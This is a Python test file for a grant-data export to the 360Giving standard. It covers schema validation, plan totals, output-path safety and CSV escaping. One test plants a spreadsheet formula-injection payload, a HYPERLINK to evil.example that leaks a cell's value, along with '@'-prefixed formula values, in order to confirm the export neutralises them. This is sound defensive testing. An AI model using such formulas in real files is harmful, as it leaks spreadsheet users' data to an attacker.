"""The 360Giving export validates against the standard's schema and matches the plan."""

from __future__ import annotations

import csv
import json

import jsonschema
import pytest

from safer_analysis.cli import main
from safer_analysis.exports import giving360

from ..conftest import SHARED, edit_cell, read_rows

SCHEMAS = SHARED / "reference" / "360giving"


@pytest.fixture(scope="module")
def validator():
    """The package schema, with the grant schema it refers to, as a draft 2020-12 validator.

    The schema files name their dialect with http:// rather than https://, so it is given here.
    """
    from referencing import Registry
    from referencing.jsonschema import DRAFT202012

    package = json.loads((SCHEMAS / "360-giving-package-schema.json").read_text())
    grant = json.loads((SCHEMAS / "360-giving-schema.json").read_text())
    grant_resource = DRAFT202012.create_resource(grant)
    registry = Registry().with_resources(
        [(grant["$id"], grant_resource), (package["properties"]["grants"]["items"]["$ref"], grant_resource)]
    )
    return jsonschema.Draft202012Validator(
        package, registry=registry, format_checker=jsonschema.Draft202012Validator.FORMAT_CHECKER
    )


@pytest.mark.shared
def test_package_validates_against_the_schema(project, dataset, validator):
    pkg = giving360.package(dataset, "2018-19", settings=project.settings)
    errors = sorted(validator.iter_errors(pkg), key=lambda e: e.path)
    assert not errors, "\n".join(f"{list(e.path)}: {e.message}" for e in errors)


@pytest.mark.shared
def test_the_validator_rejects_a_broken_grant(project, dataset, validator):
    pkg = giving360.package(dataset, "2018-19", settings=project.settings)
    pkg["grants"][0]["amountAwarded"] = "£160,200"
    pkg["grants"][1]["awardDate"] = "01/04/2018"
    assert len(list(validator.iter_errors(pkg))) >= 2


def test_grants_match_the_2018_19_plan(project, dataset):
    pkg = giving360.package(dataset, "2018-19", settings=project.settings)
    assert len(pkg["grants"]) == 9
    assert giving360.total_awarded(pkg) == 400_568
    first = pkg["grants"][0]
    assert first["id"] == "360G-saferplymouth-SP-2018-19-01"
    assert first["amountAwarded"] == 160_200 and isinstance(first["amountAwarded"], float)
    assert first["awardDate"] == "2018-04-01"
    codes = {c["code"] for c in first["classifications"] if c["vocabulary"].startswith("Police and Crime Plan")}
    assert codes == {"3", "4"}
    named = {g["recipientOrganization"][0]["name"] for g in pkg["grants"]}
    assert "First Light" in named and "Harbour" in named


def test_a_year_with_no_awards_is_refused(project, dataset):
    with pytest.raises(giving360.ExportError, match="2017-18 has no allocated lines"):
        giving360.package(dataset, "2017-18", settings=project.settings)


def test_cli_writes_json_and_csv_with_the_standard_titles(tmp_path, dataset):
    out = tmp_path / "grants.json"
    assert main(["export-360giving", "--year", "2018-19", "--out", str(out)]) == 0
    assert json.loads(out.read_text())["grants"][0]["currency"] == "GBP"
    rows = list(csv.DictReader(open(out.with_suffix(".csv"), encoding="utf-8")))
    assert list(rows[0]) == giving360.CSV_COLUMNS
    assert sum(float(r["Amount Awarded"]) for r in rows) == 400_568
    assert rows[0]["Identifier"].startswith("360G-")


def test_the_csv_holds_no_cell_a_spreadsheet_would_run(project_copy, tmp_path):
    from safer_analysis.inputs.datasets import load_dataset
    from safer_analysis.inputs.project import load_project

    leak = '=HYPERLINK("http://evil.example/?leak="&B2,"Click")'
    allocations = project_copy / "data" / "allocations.csv"
    row = next(i for i, r in enumerate(read_rows(allocations)) if r["allocation_id"] == "SP-2018-19-01")
    edit_cell(allocations, row, "project", leak)
    edit_cell(allocations, row, "provider", "@Harbour")
    settings = load_project(project_copy).settings
    json_path, csv_path = giving360.export(
        load_dataset(project_copy / "data"), "2018-19", tmp_path / "grants.json", settings=settings
    )
    first = next(r for r in read_rows(csv_path) if r["Identifier"] == "360G-saferplymouth-SP-2018-19-01")
    assert first["Title"] == "'" + leak and first["Recipient Org:Name"] == "'@Harbour"
    assert first["Amount Awarded"] == "160200"  # numbers as they were
    for r in read_rows(csv_path):
        assert not any(v.lstrip().startswith(("=", "+", "-", "@")) for v in r.values()), r
    grant = json.loads(json_path.read_text())["grants"][0]  # the JSON is data, not a spreadsheet: as given
    assert grant["title"] == leak and grant["recipientOrganization"][0]["name"] == "@Harbour"


@pytest.mark.shared
def test_real_360giving_file_uses_the_same_column_titles():
    """Our CSV titles are among those a real publisher uses."""
    path = SHARED / "realdata" / "360giving-example" / "trafford_council_voluntary_sector_grants.csv"
    with open(path, encoding="utf-8-sig") as handle:
        header = next(csv.reader(handle))
    for title in [
        "Identifier",
        "Title",
        "Description",
        "Currency",
        "Amount Awarded",
        "Award Date",
        "Recipient Org:Identifier",
        "Recipient Org:Name",
        "Funding Org:Identifier",
        "Funding Org:Name",
    ]:
        assert title in header and title in giving360.CSV_COLUMNS


# ---- the export never replaces what it did not write ----------------------------------------


def test_out_beside_an_input_is_refused_and_the_input_kept(project_copy, capsys):
    """``--out data/grants.json`` once wrote the 360Giving CSV over the input data/grants.csv."""
    grants = project_copy / "data" / "grants.csv"
    before = grants.read_bytes()
    args = ["export-360giving", "--year", "2018-19", "--project", str(project_copy)]
    assert main([*args, "--out", str(project_copy / "data" / "grants.json")]) == 2
    err = capsys.readouterr().err
    assert "is in the project's data folder" in err and "Traceback" not in err
    assert grants.read_bytes() == before
    assert not (project_copy / "data" / "grants.json").exists()
    assert main([*args, "--out", str(project_copy / "data" / "open" / "grants.json")]) == 2


@pytest.mark.parametrize("which", ["report.json", "report.csv"])
def test_a_file_the_export_did_not_write_is_not_replaced(tmp_path, capsys, which):
    mine = tmp_path / which
    mine.write_text("Name,Amount\nthe user's own table,1\n" if which.endswith(".csv") else '{"mine": true}')
    before = mine.read_bytes()
    assert main(["export-360giving", "--year", "2018-19", "--out", str(tmp_path / "report.json")]) == 2
    assert f"{mine} exists and is not a 360Giving file this export wrote" in capsys.readouterr().err
    assert mine.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == [which]


def test_an_earlier_export_is_replaced_and_files_have_the_users_permissions(tmp_path):
    import os

    out = tmp_path / "grants.json"
    old = os.umask(0o022)
    try:
        assert main(["export-360giving", "--year", "2018-19", "--out", str(out)]) == 0
        assert main(["export-360giving", "--year", "2018-19", "--out", str(out)]) == 0  # its own: replaced
        os.umask(0o002)
        out.unlink()
        out.with_suffix(".csv").unlink()
        assert main(["export-360giving", "--year", "2018-19", "--out", str(out)]) == 0
    finally:
        os.umask(old)
    assert out.stat().st_mode & 0o777 == 0o664  # not 0600: open data is for reading
    assert out.with_suffix(".csv").stat().st_mode & 0o777 == 0o664
    assert giving360.written_by_export(out) and giving360.written_by_export(out.with_suffix(".csv"))


@pytest.mark.parametrize("out", [".", "..", "/", "here", "gone/..", ".json"])
def test_an_out_that_names_no_file_is_refused_in_one_line(project_copy, tmp_path, monkeypatch, capsys, out):
    """``--out .`` and ``--out /`` once ended in a traceback, and ``--out ..`` wrote ``...json``."""
    work = tmp_path / "a" / "b"
    (work / "here").mkdir(parents=True)
    monkeypatch.chdir(work)
    before = sorted(p for p in tmp_path.rglob("*") if project_copy not in p.parents)
    args = ["export-360giving", "--year", "2018-19", "--project", str(project_copy), "--out", out]
    assert main(args) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "give a file name such as grants-2018-19.json" in err, err
    assert sorted(p for p in tmp_path.rglob("*") if project_copy not in p.parents) == before


@pytest.mark.parametrize("bad", ["bad prefix", "@SUM(1+1)"])
def test_a_bad_prefix_is_refused_in_one_line(project_copy, tmp_path, capsys, bad):
    """A prefix with a space or a formula once ended in a traceback (exit 1), from --prefix or the settings."""
    out = tmp_path / "grants.json"
    args = ["export-360giving", "--year", "2018-19", "--project", str(project_copy), "--out", str(out)]
    assert main([*args, "--prefix", bad]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "prefix must be letters, digits and hyphens" in err, err
    settings = project_copy / "safer-analysis.toml"
    settings.write_text(settings.read_text().replace('prefix = "saferplymouth"', f'prefix = "{bad}"'))
    for command in (args, ["check", "--project", str(project_copy)]):
        assert main(command) == 2
        err = capsys.readouterr().err
        assert err.count("\n") == 1 and "[open_data] prefix should be letters, digits and hyphens" in err, err
    assert not out.exists() and not out.with_suffix(".csv").exists()
